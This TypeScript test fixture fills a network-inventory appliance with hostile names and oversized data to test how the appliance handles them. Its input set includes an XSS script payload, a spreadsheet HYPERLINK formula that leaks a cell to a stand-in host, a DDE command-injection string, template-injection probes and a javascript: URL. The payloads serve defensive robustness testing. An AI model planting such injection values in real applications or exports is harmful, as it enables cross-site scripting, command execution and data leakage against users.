// Hostile page contents: names of maximum length, right-to-left text, markup, formulas, emoji, a host with the maximum
// number of addresses, and a device as large as the largest recording. No assertions.

import type { Client } from "../appliance/client.ts";
import type { Wire } from "../appliance/factories.ts";

/** Maximum length of a name, without a break opportunity. */
const NAME_MAX = 255;

/** Each attacks a different context. */
export const HOSTILE_NAMES = {
  markup: fill(`<script>window.broken = "markup"</script><img src=x onerror="window.broken = 'image'">`),
  rightToLeft: fill("\u202eשרת-הדפסה‏ خادم "),
  emoji: fill("🖨️👩‍🔧🏴‍☠️"),
  formula: fill(`=HYPERLINK("http://elsewhere.example/?"&A1,"click")`),
  plus: "+1+cmd|' /C calc'!A0",
  at: "@SUM(1,1)",
  template: "{{7*7}}${7*7}<%= 7*7 %>",
  spaces: `a${" ".repeat(40)}b`,
} as const;

/** Interface count of the largest recorded device. */
export const INTERFACES = 3_271;
/** Maximum per host. */
export const ADDRESSES = 10_000;

export interface HostileNetwork {
  /** By the type of name. */
  readonly hosts: Readonly<Record<keyof typeof HOSTILE_NAMES, Wire>>;
  /** Device with very many interfaces, and neighbors with hostile names or none. */
  readonly device: Wire;
  /** Host with very many addresses. */
  readonly server: Wire;
  readonly interfaceId: string;
  readonly subnet: Wire;
  readonly vlan: Wire;
}

function fill(text: string): string {
  return text + "x".repeat(Math.max(0, NAME_MAX - text.length));
}

/** Data of a successful answer. @throws on a refusal */
async function data(answer: Promise<{ status: number; body: Wire }>): Promise<Wire> {
  const { status, body } = await answer;
  if (status !== 200) throw new Error(JSON.stringify(body).slice(0, 2_000));
  return body.data as Wire;
}

/** Fills a network through the API. */
export async function fillHostile(client: Client, networkId: string): Promise<HostileNetwork> {
  const { markup, rightToLeft, emoji, formula } = HOSTILE_NAMES;
  const tag = await data(client.post("tags", { name: markup, color: "Red", description: rightToLeft }));
  const vlan = await data(
    client.post("vlans", { network_id: networkId, number: 666, name: rightToLeft, description: markup }),
  );
  const subnet = await data(
    client.post("subnets", {
      network_id: networkId,
      cidr: "10.0.0.0/16",
      name: markup,
      description: formula,
      subnet_type: "Lan",
      vlan_id: vlan.id,
      tags: [tag.id],
    }),
  );
  await data(
    client.post("ip-ranges", {
      network_id: networkId,
      subnet_id: subnet.id,
      first: "10.0.200.0",
      last: "10.0.200.255",
      purpose: "Dhcp",
      description: markup,
    }),
  );
  const made: Record<string, Wire> = {};
  for (const [index, [key, name]] of Object.entries(HOSTILE_NAMES).entries())
    made[key] = await data(
      client.post("hosts", {
        network_id: networkId,
        name,
        hostname: name,
        description: markup,
        sys_descr: formula,
        sys_location: rightToLeft,
        hidden: false,
        tags: [tag.id],
        management_url: "javascript:window.broken='url'",
        ip_addresses: [
          { subnet_id: subnet.id, ip_address: `10.0.100.${index + 1}`, mac_address: macOf(0x10000 + index), name },
        ],
        ports: [{ number: 443, protocol: "Tcp" }],
        services: [{ name, service_definition: formula.slice(0, 100) }],
      }),
    );
  const device = await data(
    client.post("hosts/bulk", [
      {
        network_id: networkId,
        name: "chassis",
        hidden: false,
        tags: [],
        interfaces: Array.from({ length: INTERFACES }, (_, index) => interfaceOf(index + 1, vlan.id)),
      },
    ]),
  );
  const server = await data(
    client.post("hosts/bulk", [
      {
        network_id: networkId,
        name: emoji,
        hidden: false,
        tags: [],
        ip_addresses: Array.from({ length: ADDRESSES }, (_, index) => ({
          subnet_id: subnet.id,
          ip_address: `10.0.${Math.floor(index / 256)}.${index % 256}`,
          mac_address: macOf(0x20000 + (index % 3)),
          name: index % 100 === 0 ? markup : null,
        })),
      },
    ]),
  );
  const entries = await data(client.get(`if-entries?host_id=${device[0].id}&limit=1`));
  return {
    hosts: made as HostileNetwork["hosts"],
    device: device[0],
    server: server[0],
    interfaceId: entries[0].id,
    subnet,
    vlan,
  };
}

/** Twelve modules of 48 ports, the rest logical, as on a modular chassis. */
function interfaceOf(index: number, vlanId: string): Wire {
  const { markup, rightToLeft, formula } = HOSTILE_NAMES;
  const isPort = index <= 12 * 48;
  const [module, port] = [Math.ceil(index / 48), ((index - 1) % 48) + 1];
  const name = isPort ? `TenGigabitEthernet${module}/${port}` : `Vlan${index}`;
  return {
    if_index: index,
    if_descr: name,
    if_name: isPort ? `Te${module}/${port}` : `Vl${index}`,
    if_alias: index === 1 ? markup : index === 2 ? rightToLeft : index === 3 ? formula : null,
    if_type: isPort ? 6 : 53,
    speed_bps: isPort ? 10_000_000_000 : null,
    admin_status: index % 11 === 0 ? "Down" : "Up",
    oper_status: index % 3 === 0 ? "Down" : "Up",
    ...(isPort ? { native_vlan_id: vlanId } : {}),
    ...(index === 4 ? { lldp_chassis_id: { subtype: "MacAddress", value: macOf(0x30001) } } : {}),
    ...(index === 5
      ? {
          lldp_chassis_id: { subtype: "LocallyAssigned", value: markup },
          lldp_port_id: { subtype: "InterfaceName", value: rightToLeft },
          lldp_sys_name: markup,
        }
      : {}),
    ...(index === 7 ? { fdb_macs: Array.from({ length: 8 }, (_, each) => macOf(0x10000 + each)) } : {}),
  };
}

function macOf(number: number): string {
  return `00:1b:21:${number
    .toString(16)
    .padStart(6, "0")
    .replace(/(..)(..)(..)/, "$1:$2:$3")}`;
}
